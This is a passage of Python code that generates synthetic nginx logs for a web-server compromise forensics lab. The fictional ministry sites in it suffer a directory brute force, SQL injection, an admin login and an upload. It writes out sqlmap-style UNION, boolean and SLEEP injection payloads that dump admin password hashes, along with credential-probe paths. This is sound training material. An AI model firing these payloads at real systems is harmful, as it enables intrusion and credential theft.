"""Case generator for the "Web-server compromise" lab.

Every seed gives a different ministry e-services site (nginx in front of a PHP application) and
two days of its ``access.log`` (nginx "combined" format) and ``error.log``. Ordinary traffic —
citizens, office staff, search-engine crawlers, a monitoring probe and the background noise of
internet scanners — is mixed with one attack in four steps:

1. a scanner address brute-forces directories and files with a tool's user agent (many 404s);
2. the same address injects SQL into one parameter of one script (500s, SQL errors in error.log)
   and dumps the admin accounts;
3. a second address signs in to the admin area, uploads a PHP web shell through the media
   upload and runs commands through it;
4. it packs the database into an archive in the upload folder, downloads it and defaces the site.

Consecutive seeds must never share an identifying answer, so a few choices follow the seed's
parity: the attackers' last octets, the tool pool, the vulnerable-script pool and the parity of
the day of the month of the web shell's first request.
"""

from __future__ import annotations

import hashlib
import random
from datetime import date, datetime, timedelta, timezone
from urllib.parse import quote, quote_plus

from hifazat.labs.case import Case

YEAR = 2026
PKT = timezone(timedelta(hours=5))
DAY = 86400
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
TEST_NETS = ("192.0.2", "198.51.100", "203.0.113")
DOCROOT = "/var/www/eservices/public"
FPM = "fastcgi://unix:/run/php/php8.2-fpm.sock:"

MINISTRIES = (
    ("moi", "Ministry of Interior"),
    ("mofept", "Ministry of Federal Education and Professional Training"),
    ("mohr", "Ministry of Human Rights"),
    ("moitt", "Ministry of IT and Telecommunication"),
    ("mora", "Ministry of Religious Affairs and Interfaith Harmony"),
    ("mops", "Ministry of Overseas Pakistanis and Human Resource Development"),
    ("mowr", "Ministry of Water Resources"),
    ("monhsr", "Ministry of National Health Services, Regulations and Coordination"),
)

# Directory brute-forcers: (choice key, user agent template). Even seeds use the first pool.
TOOLS = (
    (
        ("nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test:06d})"),
        ("gobuster", "gobuster/3.6"),
        ("wfuzz", "Wfuzz/3.1.0"),
    ),
    (
        ("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
        ("feroxbuster", "feroxbuster/2.10.4"),
        (
            "dirbuster",
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        ),
    ),
)
TOOL_EXTS = {
    "nikto": ("", ".php", ".bak", ".txt", ".old"),
    "gobuster": ("", ".php", ".txt", ".bak", ".zip"),
    "wfuzz": ("", ".php", ".html", ".bak"),
    "ffuf": ("", ".php", ".bak", ".txt", ".zip", ".sql"),
    "feroxbuster": ("", ".php", ".txt", ".bak", ".old"),
    "dirbuster": ("", ".php", ".html", ".txt"),
}
# Scripts with one injectable parameter each, and what an ordinary value looks like.
# The vulnerable one comes from the pool of the seed's parity; all of them get ordinary traffic.
SCRIPTS = (
    (
        ("/eservices/track.php", "app_id", "app"),
        ("/eservices/status.php", "ref_no", "ref"),
        ("/news.php", "id", "small"),
        ("/eservices/receipt.php", "challan", "challan"),
    ),
    (
        ("/eservices/verify.php", "cnic", "cnic"),
        ("/downloads/form.php", "form_id", "small"),
        ("/eservices/complaint.php", "ticket", "ticket"),
        ("/tenders/view.php", "tender_id", "small"),
    ),
)
UPLOAD_DIRS = ("/uploads/media", "/uploads/news", "/uploads/documents", "/uploads/files")
UPLOAD_ENDPOINTS = ("/admin/media/upload.php", "/admin/upload.php", "/admin/news/attach.php")
SHELL_PARAMS = ("cmd", "c", "exec", "x")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 Edg/132.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Infinix X6833B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; TECNO KG5k) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; Sitecrawler/2.1; +https://crawler.search.example/bot.html)",
    "Mozilla/5.0 (compatible; IndexBot/1.4; +https://www.index-engine.example/bot)",
)
NOISE_UAS = (
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x",
)
NOISE_PATHS = (
    "/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale",
    "/actuator/health", "/.aws/credentials", "/config.json", "/owa/auth/logon.aspx", "/boaform/admin/formLogin",
    "/server-status", "/.DS_Store", "/admin/.env", "/api/.env", "/HNAP1/",
)  # fmt: skip
WORDS = (
    "about", "access", "account", "accounts", "admin", "admin1", "administrator", "adminer", "ajax",
    "api", "app", "apps", "archive", "archives", "assets", "auth", "backup", "backups", "bak", "bin",
    "blog", "cache", "cgi-bin", "config", "configuration", "conf", "console", "contact", "content",
    "cp", "cpanel", "cron", "css", "dashboard", "data", "database", "db", "debug", "default", "demo",
    "dev", "docs", "download", "downloads", "dump", "editor", "email", "error", "errors", "eservices",
    "export", "feed", "file", "filemanager", "files", "forms", "forum", "ftp", "gallery", "help",
    "home", "html", "images", "img", "import", "inc", "include", "includes", "index", "info",
    "install", "installer", "js", "lib", "library", "log", "login", "logout", "logs", "mail",
    "manage", "manager", "media", "member", "members", "misc", "modules", "mysql", "new", "news",
    "old", "panel", "passwd", "password", "phpinfo", "phpmyadmin", "pma", "portal", "private",
    "profile", "public", "register", "reports", "reset", "restore", "robots", "sample", "scripts",
    "search", "secret", "secure", "server", "service", "services", "settings", "setup", "shell",
    "site", "sitemap", "sql", "staff", "static", "stats", "status", "storage", "system", "temp",
    "template", "templates", "test", "tests", "tmp", "tools", "upload", "uploads", "user", "users",
    "vendor", "web", "webadmin", "wp", "wp-admin", "wp-content", "www", "xml", "tenders", "tender",
    "notices", "notification", "circulars", "careers", "jobs", "recruitment", "complaints",
    "feedback", "gallery2", "intranet", "eoffice", "webmail", "owa", "remote", "vpn", "sso",
    "oauth", "token", "cgi", "fckeditor", "ckeditor", "kcfinder", "elfinder", "jquery", "bootstrap",
    "node_modules", ".git", ".svn", ".env", ".htaccess", ".htpasswd", ".DS_Store", "composer",
    "package", "readme", "license", "changelog", "web.config", "crossdomain", "server-status",
)  # fmt: skip
EXISTING_DIRS = {"admin", "assets", "downloads", "eservices", "uploads", "tenders"}
EXISTING_FILES = {"index.php", "robots.txt", "contact.php", "news.php", "search.php", "about.php"}
PAGES = (  # ordinary pages: path, weight
    ("/", 30), ("/eservices/", 14), ("/about.php", 4), ("/contact.php", 5), ("/notifications.php", 6),
    ("/downloads/", 8), ("/faq.php", 4), ("/tenders/", 4), ("/eservices/apply.php", 6),
    ("/search.php?q={q}", 4), ("/index.php?lang=ur", 5),
)  # fmt: skip
SEARCHES = (
    "domicile", "noc", "passport", "fee+challan", "verification", "tender+2026", "complaint",
    "recruitment", "attestation", "scholarship", "hajj", "form+b",
)  # fmt: skip
PHP_WARNINGS = (
    ("/index.php?lang=ur", 'PHP Warning:  Undefined array key "theme" in /var/www/eservices/public/index.php on line 23'),
    ("/contact.php", "PHP Warning:  Undefined variable $captcha_ok in /var/www/eservices/public/contact.php on line 88"),
    ("/notifications.php", "PHP Deprecated:  strftime(): Function strftime() is deprecated in /var/www/eservices/public/notifications.php on line 51"),
    ("/eservices/status.php", "PHP Warning:  Trying to access array offset on value of type null in /var/www/eservices/public/eservices/status.php on line 64"),
    ("/search.php", "PHP Warning:  Undefined array key \"page\" in /var/www/eservices/public/search.php on line 19"),
)  # fmt: skip
EXFIL_NAMES = (
    "db_backup_{d}.tar.gz", "eservices_{d}.sql.gz", "bk_{h}.tgz", ".cache_{h}.zip", "{h}.tar.gz",
    "dump_{d}.zip",
)  # fmt: skip
DEFACE = "PGgxPkhhY2tlZDwvaDE+PHA+WW91ciBzZWN1cml0eSBpcyBhIGpva2UuPC9wPgo="


def _ip(rng: random.Random, used: set, parity: int | None = None) -> str:
    while True:
        last = rng.randint(2, 254)
        if parity is not None and last % 2 != parity:
            continue
        ip = f"{rng.choice(TEST_NETS)}.{last}"
        if ip not in used:
            used.add(ip)
            return ip


def _ip6(rng: random.Random, used: set) -> str:
    while True:
        ip = f"2001:db8:{rng.randint(1, 0xFFFF):x}:{rng.randint(1, 0xFFFF):x}::{rng.randint(1, 0xFFFF):x}"
        if ip not in used:
            used.add(ip)
            return ip


def _value(rng: random.Random, kind: str, abbr: str) -> str:
    if kind == "app":
        return str(rng.randint(100_000, 999_999))
    if kind == "ref":
        return f"{abbr.upper()}-{YEAR}-{rng.randint(1, 99_999):06d}"
    if kind == "challan":
        return str(rng.randint(10**9, 10**10 - 1))
    if kind == "cnic":
        return f"{rng.choice('3461')}{rng.randint(1000, 9999)}{rng.randint(10**7, 10**8 - 1)}"
    if kind == "ticket":
        return f"CMP-{rng.randint(10_000, 99_999)}"
    return str(rng.randint(1, 480))


class _Log:
    """Access-log requests and error-log lines before rendering; times in seconds from 00:00
    PKT on the first day."""

    def __init__(self) -> None:
        self.access: list[tuple] = []
        self.errors: list[tuple] = []

    def req(self, ts, ip, method, path, status, size, ref="-", ua="-", proto="HTTP/1.1"):
        self.access.append((ts, len(self.access), ip, method, path, proto, status, size, ref, ua))
        return self.access[-1]

    def err(self, ts, level, message, request=None):
        self.errors.append((ts, len(self.errors), level, message, request))


def _stamp_access(first: date, ts: int) -> str:
    d = first + timedelta(days=ts // DAY)
    s = ts % DAY
    return f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d} +0500"


def _stamp_error(first: date, ts: int) -> str:
    d = first + timedelta(days=ts // DAY)
    s = ts % DAY
    return f"{d.year}/{d.month:02d}/{d.day:02d} {s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}"


def _hour(rng: random.Random) -> int:
    weights = (1, 1, 1, 1, 1, 1, 2, 3, 6, 10, 12, 12, 11, 10, 11, 10, 9, 7, 6, 6, 5, 4, 3, 2)
    return rng.choices(range(24), weights)[0]


def generate(seed: int) -> Case:
    rng = random.Random(seed)
    parity = seed % 2
    abbr, ministry = rng.choice(MINISTRIES)
    host = f"eservices.{abbr}.gov.example"
    site = f"https://{host}"
    used: set[str] = set()

    # --- the calendar: the web shell's first request falls on the second day ------------------
    month = rng.randint(1, 11)
    shell_day = rng.choice([d for d in range(2, 28) if d % 2 == parity])
    shell_date = date(YEAR, month, shell_day)
    first = shell_date - timedelta(days=1)
    ym = f"{shell_date.year}/{shell_date.month:02d}"

    tool, tool_ua = rng.choice(TOOLS[parity])
    script, param, kind = rng.choice(SCRIPTS[parity])
    all_scripts = SCRIPTS[0] + SCRIPTS[1]
    upload_dir = f"{rng.choice(UPLOAD_DIRS)}/{ym}"
    upload_endpoint = rng.choice(UPLOAD_ENDPOINTS)
    shell_param = rng.choice(SHELL_PARAMS)
    hexname = lambda n: "".join(rng.choice("0123456789abcdef") for _ in range(n))  # noqa: E731
    shell_name = rng.choice(
        (
            f"{hexname(12)}.php",
            f"img_{rng.randint(1000, 9999)}.php",
            f"thumb-{hexname(6)}.php",
            f"banner{rng.randint(10, 99)}.php",
            f"{rng.choice(('wp', 'sys', 'cfg', 'tmp'))}-{hexname(5)}.php",
        )
    )
    shell_path = f"{upload_dir}/{shell_name}"
    exfil_name = rng.choice(EXFIL_NAMES).format(
        d=f"{shell_date.year}{shell_date.month:02d}{shell_date.day:02d}", h=hexname(8)
    )
    exfil_path = f"{upload_dir}/{exfil_name}"
    exfil_bytes = rng.randint(38_000_000, 420_000_000)

    scanner_ip = _ip(rng, used, parity)
    attacker_ip = _ip(rng, used, parity)
    office = f"10.{rng.randint(10, 60)}.{rng.randint(1, 30)}"
    monitor_ip = f"{office}.{rng.randint(200, 250)}"
    staff_ips = rng.sample([f"{office}.{n}" for n in range(20, 190)], 14)
    crawler_ips = [[_ip(rng, used) for _ in range(rng.randint(2, 4))] for _ in CRAWLERS]
    noise_ips = [_ip(rng, used) for _ in range(rng.randint(3, 6))]
    citizen_ips = [_ip(rng, used) for _ in range(rng.randint(260, 330))]
    citizen_ips += [_ip6(rng, used) for _ in range(rng.randint(15, 35))]

    log = _Log()
    sizes = {
        "/": rng.randint(17_500, 19_800),
        "/index.php?lang=ur": rng.randint(18_500, 20_800),
        "/eservices/": rng.randint(9_000, 11_500),
        "/about.php": rng.randint(7_000, 8_500),
        "/contact.php": rng.randint(6_000, 7_200),
        "/notifications.php": rng.randint(12_000, 16_000),
        "/downloads/": rng.randint(8_000, 10_000),
        "/faq.php": rng.randint(9_000, 12_000),
        "/tenders/": rng.randint(7_500, 9_500),
        "/eservices/apply.php": rng.randint(11_000, 13_000),
        "/search.php": rng.randint(6_500, 9_500),
        "/news.php": rng.randint(8_000, 9_000),
        "/robots.txt": 214,
    }
    assets = {
        "/assets/css/site.min.css": rng.randint(38_000, 52_000),
        "/assets/js/app.min.js": rng.randint(14_000, 22_000),
        "/assets/js/jquery-3.7.1.min.js": 87_533,
        "/assets/img/logo.png": rng.randint(9_000, 24_000),
        "/assets/img/emblem.png": rng.randint(20_000, 40_000),
        "/assets/fonts/noori-nastaleeq.woff2": rng.randint(180_000, 260_000),
    }
    not_found_app = rng.randint(3_900, 4_400)  # the application's own 404 page
    nginx_404 = 146
    forms = [
        (f"/downloads/forms/{name}.pdf", rng.randint(60_000, 2_400_000))
        for name in rng.sample(
            (
                "domicile-form", "noc-application", "verification-form", "complaint-form",
                "leave-form-bps16", "pension-form", "fee-refund", "rti-request", "scholarship-2026",
                "attestation-checklist",
            ),
            7,
        )
    ]  # fmt: skip
    forms.append((f"/downloads/annual-report-{YEAR - 1}.pdf", rng.randint(8_000_000, 14_500_000)))
    media = [
        (f"{upload_dir}/{hexname(10)}.{rng.choice(('jpg', 'jpg', 'png', 'pdf'))}", rng.randint(40_000, 900_000))
        for _ in range(rng.randint(10, 18))
    ]  # fmt: skip

    # --- the attack's times (seconds from 00:00 PKT on the first day) ---------------------------
    scan_start = rng.randint(10 * 3600, 19 * 3600)
    shell_first = DAY + rng.randint(1 * 3600, 19 * 3600)

    def page_size(path: str, ts: int) -> int:
        base = sizes.get(path.split("?")[0] if path.startswith("/search") else path)
        if base is None:
            return rng.randint(5_000, 9_000)
        return base + rng.randint(-40, 40)

    error_pid = rng.randint(900, 2400)
    workers = [error_pid + i for i in range(1, rng.choice((3, 5)))]

    # --- ordinary citizens ------------------------------------------------------------------------
    def script_url(entry) -> str:
        path, name, kind_ = entry
        return f"{path}?{name}={_value(rng, kind_, abbr)}"

    def visit(t: int, ip: str, ua: str, ref: str) -> None:
        proto = "HTTP/2.0"
        landing = rng.choices([p for p, _ in PAGES], [w for _, w in PAGES])[0]
        if rng.random() < 0.25:
            landing = script_url(rng.choice(all_scripts))
        pages = [landing]
        for _ in range(rng.choices((0, 1, 2, 3, 4, 5), (2, 4, 4, 3, 2, 1))[0]):
            r = rng.random()
            if r < 0.35:
                pages.append(script_url(rng.choice(all_scripts)))
            elif r < 0.5:
                pages.append(rng.choice(forms)[0])
            else:
                pages.append(rng.choices([p for p, _ in PAGES], [w for _, w in PAGES])[0])
        returning = rng.random() < 0.35
        for i, page in enumerate(pages):
            page = page.replace("{q}", rng.choice(SEARCHES))
            if page.endswith(".pdf"):
                size = dict(forms)[page]
                if rng.random() < 0.2:
                    size = rng.randint(size // 10, size // 2)  # cancelled download
                log.req(t, ip, "GET", page, 200, size, ref, ua, proto)
            elif page == "/eservices/apply.php" and rng.random() < 0.3:
                log.req(t, ip, "GET", page, 200, page_size(page, t), ref, ua, proto)
                t += rng.randint(60, 400)
                if rng.random() < 0.04:
                    log.req(t, ip, "POST", page, 413, 176, site + page, ua, proto)
                    log.err(
                        t, "error",
                        "client intended to send too large body: "
                        f"{rng.randint(8_400_000, 25_000_000)} bytes",
                        (ip, "POST", page, proto, site + page),
                    )  # fmt: skip
                else:
                    log.req(t, ip, "POST", page, 302, 0, site + page, ua, proto)
                    t += rng.randint(0, 1)
                    done = f"/eservices/thank-you.php?app_id={_value(rng, 'app', abbr)}"
                    log.req(
                        t, ip, "GET", done, 200, rng.randint(5_800, 6_100), site + page, ua, proto
                    )
                    page = done
            else:
                if rng.random() < 0.002:  # PHP-FPM too slow: nginx gives up after 60 s
                    log.req(t + 60, ip, "GET", page, 504, 160, ref, ua, proto)
                    log.err(t + 60, "error", "upstream timed out (110: Connection timed out) while reading response header from upstream", (ip, "GET", page, proto, ref))  # fmt: skip
                    t += 60
                    ref = site + page
                    continue
                log.req(t, ip, "GET", page, 200, page_size(page, t), ref, ua, proto)
                for pattern, warning in PHP_WARNINGS:
                    if page.startswith(pattern) and rng.random() < 0.12:
                        log.err(t, "error", f'FastCGI sent in stderr: "PHP message: {warning}" while reading response header from upstream', (ip, "GET", page, proto, ref))  # fmt: skip
            if i == 0 or rng.random() < 0.15:
                for asset, asize in assets.items():
                    if "fonts" in asset and rng.random() < 0.5:
                        continue
                    at = t + rng.randint(0, 1)
                    if returning or i > 0:
                        log.req(at, ip, "GET", asset, 304, 0, site + page, ua, proto)
                    else:
                        log.req(at, ip, "GET", asset, 200, asize, site + page, ua, proto)
                if page in ("/", "/index.php?lang=ur") or rng.random() < 0.3:
                    pic, psize = rng.choice(media)
                    log.req(t + 1, ip, "GET", pic, 200, psize, site + page, ua, proto)
                if i == 0 and not returning:
                    log.req(t + 1, ip, "GET", "/favicon.ico", 200, 15_086, site + page, ua, proto)
                    if "iPhone" in ua or "Macintosh" in ua:
                        log.req(t + 1, ip, "GET", "/apple-touch-icon.png", 404, not_found_app, "-", ua, proto)  # fmt: skip
            ref = site + page
            t += rng.randint(6, 150)

    for _ in range(rng.randint(280, 380)):
        t = rng.randint(0, 1) * DAY + _hour(rng) * 3600 + rng.randint(0, 3599)
        ref = rng.choice(
            (
                "-",
                "-",
                site + "/",
                "https://search.example/",
                "https://www.pakistan.gov.example/links",
            )
        )
        visit(t, rng.choice(citizen_ips), rng.choice(BROWSERS), ref)

    # --- office staff: the admin area from the office network -------------------------------------
    for _ in range(rng.randint(30, 50)):
        day = rng.randint(0, 1)
        t = day * DAY + rng.randint(9 * 3600, 17 * 3600)
        ip, ua = rng.choice(staff_ips), rng.choice(BROWSERS[:3] + BROWSERS[8:])
        log.req(t, ip, "GET", "/admin/login.php", 200, 4_212, "-", ua, "HTTP/2.0")
        t += rng.randint(5, 20)
        log.req(
            t, ip, "POST", "/admin/login.php", 302, 0, site + "/admin/login.php", ua, "HTTP/2.0"
        )
        log.req(t + 1, ip, "GET", "/admin/dashboard.php", 200, rng.randint(14_000, 16_000), site + "/admin/login.php", ua, "HTTP/2.0")  # fmt: skip
        t += 1
        for _ in range(rng.randint(2, 8)):
            t += rng.randint(10, 300)
            r = rng.random()
            if r < 0.5:
                path = f"/admin/applications.php?page={rng.randint(1, 40)}"
                log.req(t, ip, "GET", path, 200, rng.randint(20_000, 31_000), site + "/admin/dashboard.php", ua, "HTTP/2.0")  # fmt: skip
            elif r < 0.75:
                pic, psize = rng.choice(media)
                log.req(t, ip, "GET", pic, 200, psize, site + "/admin/media.php", ua, "HTTP/2.0")
            elif r < 0.9:
                log.req(t, ip, "GET", "/admin/media.php", 200, rng.randint(9_000, 11_000), site + "/admin/dashboard.php", ua, "HTTP/2.0")  # fmt: skip
                t += rng.randint(20, 90)
                log.req(t, ip, "POST", upload_endpoint, 200, rng.randint(70, 95), site + "/admin/media.php", ua, "HTTP/2.0")  # fmt: skip
            else:
                path = f"/admin/news-edit.php?id={rng.randint(100, 480)}"
                log.req(t, ip, "GET", path, 200, rng.randint(12_000, 13_500), site + "/admin/dashboard.php", ua, "HTTP/2.0")  # fmt: skip
        t += rng.randint(10, 200)
        log.req(
            t,
            ip,
            "GET",
            "/admin/logout.php",
            302,
            0,
            site + "/admin/dashboard.php",
            ua,
            "HTTP/2.0",
        )

    # --- crawlers, the monitoring probe, internet noise -------------------------------------------
    crawl_paths = (
        [p for p, _ in PAGES if "{q}" not in p]
        + [p for p, _ in forms]
        + [script_url(e) for e in all_scripts for _ in range(3)]
    )
    for ua, ips in zip(CRAWLERS, crawler_ips, strict=True):
        for _ in range(rng.randint(90, 170)):
            t = rng.randint(0, 2 * DAY - 1)
            r = rng.random()
            path = (
                "/robots.txt"
                if r < 0.08
                else "/sitemap.xml"
                if r < 0.14
                else rng.choice(crawl_paths)
            )
            if path == "/robots.txt":
                size = 214
            elif path == "/sitemap.xml":
                size = 6_831
            elif path.endswith(".pdf"):
                size = dict(forms)[path]
            else:
                size = page_size(path, t)
            log.req(t, rng.choice(ips), "GET", path, 200, size, "-", ua)
        old = f"/eservices/forms/{rng.choice(('old-form', 'form-2019', 'noc-old'))}.pdf"
        log.req(
            rng.randint(0, 2 * DAY - 1), rng.choice(ips), "GET", old, 404, not_found_app, "-", ua
        )

    offset = rng.randint(0, 299)
    for t in range(offset, 2 * DAY, 300):
        log.req(t, monitor_ip, "GET", "/healthz", 200, 2, "-", "nocwatch-probe/2.3")

    for ip in noise_ips:
        ua = rng.choice(NOISE_UAS)
        t = rng.randint(0, 2 * DAY - 600)
        for path in rng.sample(NOISE_PATHS, rng.randint(2, 9)):
            if path.startswith("/.") or "/." in path:
                status, size = 403, nginx_404
            elif path.endswith(".php"):
                status, size = 404, nginx_404
            else:
                status, size = 404, not_found_app
            log.req(t, ip, "GET", path, status, size, "-", ua)
            t += rng.randint(0, 3)
        if rng.random() < 0.5:
            log.err(
                t, "crit",
                "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) "
                f"while SSL handshaking, client: {ip}, server: 0.0.0.0:443",
            )  # fmt: skip

    # --- 1. the directory brute force -----------------------------------------------------------
    exts = TOOL_EXTS[tool]
    words = sorted(rng.sample(WORDS, rng.randint(130, len(WORDS))))
    rate = rng.randint(4, 12)  # requests a second
    test_id = rng.randint(1, 400)
    n = 0
    for word in words:
        for ext in exts if not word.startswith(".") else ("",):
            t = scan_start + n // rate
            n += 1
            path = f"/{word}{ext}"
            test_id += rng.randint(1, 9)
            ua = tool_ua.format(test=test_id)
            if ext == "" and word in EXISTING_DIRS:
                status, size = 301, 162
            elif path.lstrip("/") in EXISTING_FILES:
                status, size = 200, page_size(path if path != "/index.php" else "/", t)
            elif word.startswith("."):
                status, size = 403, nginx_404
            elif ext == ".php":
                status, size = 404, nginx_404
            else:
                status, size = 404, not_found_app
            log.req(t, scanner_ip, "GET", path, status, size, "-", ua)
    scan_end = scan_start + n // rate

    # --- 2. the SQL injection, from the same address ----------------------------------------------
    t = scan_end + rng.randint(15 * 60, 90 * 60)
    manual_ua = rng.choice(BROWSERS[:3])
    line_no = rng.randint(30, 80)
    php_file = DOCROOT + script
    benign = _value(rng, kind, abbr)
    for path in ("/", "/eservices/", f"{script}?{param}={benign}"):
        log.req(t, scanner_ip, "GET", path, 200, page_size(path, t), "-", manual_ua, "HTTP/2.0")
        t += rng.randint(4, 40)
    normal_size = rng.randint(5_200, 7_400)
    empty_size = rng.randint(3_100, 3_600)

    def sql_error(ts: int, path: str, ua: str, proto: str, message: str) -> None:
        log.req(ts, scanner_ip, "GET", path, 500, 0, "-", ua, proto)
        log.err(
            ts, "error",
            f'FastCGI sent in stderr: "PHP message: PHP Fatal error:  Uncaught mysqli_sql_exception: '
            f'{message} in {php_file}:{line_no}" while reading response header from upstream',
            (scanner_ip, "GET", path, proto, "-"),
        )  # fmt: skip

    quoted = quote(benign + "'", safe="")
    sql_error(t, f"{script}?{param}={quoted}", manual_ua, "HTTP/2.0",
              "You have an error in your SQL syntax; check the manual that corresponds to your "
              f"MariaDB server version for the right syntax to use near '''{benign}''' LIMIT 1' at line 1")  # fmt: skip
    # a few probes of other scripts that are not injectable
    for other in rng.sample([e for e in all_scripts if e[0] != script], 2):
        t += rng.randint(20, 90)
        v = _value(rng, other[2], abbr)
        path = f"{other[0]}?{other[1]}={quote(v + chr(39), safe='')}"
        log.req(
            t, scanner_ip, "GET", path, 200, rng.randint(3_000, 4_000), "-", manual_ua, "HTTP/2.0"
        )

    t += rng.randint(120, 900)
    if rng.random() < 0.6:
        sql_ua = f"sqlmap/1.8.{rng.randint(2, 12)}#stable (https://sqlmap.org)"
    else:
        sql_ua = rng.choice(BROWSERS)  # --random-agent
    r1, r2, r3 = rng.randint(1000, 9999), rng.randint(1000, 9999), "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4))  # fmt: skip
    columns = rng.randint(3, 9)
    tag1, tag2 = "0x71" + hexname(6), "0x71" + hexname(6)
    payloads: list[tuple[str, int | None, str | None]] = [
        (f"{benign}) AND {r1}={r1} AND ({r2}={r2}", normal_size, None),
        (f"{benign} AND {r1}={r1}", normal_size, None),
        (f"{benign} AND {r1}={r2}", normal_size, None),
        (f"{benign}' AND {r1}={r1} AND '{r3}'='{r3}", normal_size, None),
        (f"{benign}' AND {r1}={r2} AND '{r3}'='{r3}", empty_size, None),
        (f"{benign}' AND (SELECT {r2} FROM (SELECT(SLEEP(5))){r3}) AND '{r3}'='{r3}", normal_size, None), # noqa: S608 (a log line, not a query)
    ]  # fmt: skip
    for k in range(1, columns + 2):
        err = None if k <= columns else f"Unknown column '{k}' in 'order clause'"
        payloads.append((f"{benign}' ORDER BY {k}-- -", None if err else normal_size, err))
    for k in range(1, columns + 1):
        nulls = ",".join(["NULL"] * k)
        err = (
            None
            if k == columns
            else "The used SELECT statements have a different number of columns"
        )
        payloads.append(
            (f"{benign}' UNION ALL SELECT {nulls}-- -", None if err else normal_size, err)
        )
    pos = rng.randint(1, columns)

    def union(expr: str, tail: str = "") -> str:
        cols = ["NULL"] * columns
        cols[pos - 1] = f"CONCAT({tag1},{expr},{tag2})"
        return f"-{r1}' UNION ALL SELECT {','.join(cols)}{tail}-- -"

    payloads.append((union("IFNULL(CAST(DATABASE() AS NCHAR),0x20)"), normal_size, None))
    payloads.append((union("IFNULL(CAST(table_name AS NCHAR),0x20)", " FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=DATABASE()"), normal_size, None))  # fmt: skip
    payloads.append((union("IFNULL(CAST(column_name AS NCHAR),0x20)", " FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name=0x61646d696e5f7573657273"), normal_size, None))  # fmt: skip
    users = rng.randint(12, 60)
    payloads.append(
        (union("IFNULL(CAST(COUNT(*) AS NCHAR),0x20)", " FROM admin_users"), normal_size, None)
    )
    for i in range(users):
        expr = (
            "IFNULL(CAST(username AS NCHAR),0x20),0x3a,IFNULL(CAST(password_hash AS NCHAR),0x20)"
        )
        payloads.append(
            (union(expr, f" FROM admin_users ORDER BY id LIMIT {i},1"), normal_size, None)
        )
    for payload, size, err in payloads:
        t += rng.randint(0, 2) if "SLEEP" not in payload else 5
        path = f"{script}?{param}={quote(payload, safe='-_.()*')}"
        if err:
            sql_error(t, path, sql_ua, "HTTP/1.1", err)
        else:
            log.req(t, scanner_ip, "GET", path, 200, size + rng.randint(0, 120), "-", sql_ua)
    sqli_end = t

    # --- 3. the second address: admin login, upload, web shell ---------------------------------
    ua2 = rng.choice(BROWSERS[:3] + BROWSERS[7:9])
    t = shell_first - rng.randint(240, 900)
    login_at = t
    log.req(t, attacker_ip, "GET", "/admin/login.php", 200, 4_212, "-", ua2, "HTTP/2.0")
    t += rng.randint(8, 25)
    log.req(
        t,
        attacker_ip,
        "POST",
        "/admin/login.php",
        302,
        0,
        site + "/admin/login.php",
        ua2,
        "HTTP/2.0",
    )
    log.req(t + 1, attacker_ip, "GET", "/admin/dashboard.php", 200, rng.randint(14_000, 16_000), site + "/admin/login.php", ua2, "HTTP/2.0")  # fmt: skip
    t += rng.randint(15, 60)
    log.req(t, attacker_ip, "GET", "/admin/media.php", 200, rng.randint(9_000, 11_000), site + "/admin/dashboard.php", ua2, "HTTP/2.0")  # fmt: skip
    t += rng.randint(20, 60)
    upload_at = t
    log.req(t, attacker_ip, "POST", upload_endpoint, 200, rng.randint(70, 95), site + "/admin/media.php", ua2, "HTTP/2.0")  # fmt: skip
    assert t < shell_first
    t = shell_first
    shell_ua = rng.choice((ua2, "curl/8.5.0", "python-requests/2.32.3"))
    db_pass = "".join(
        rng.choice("abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(12)
    )
    tmp = f"/tmp/.{hexname(6)}.sql"  # noqa: S108 (text in the log)
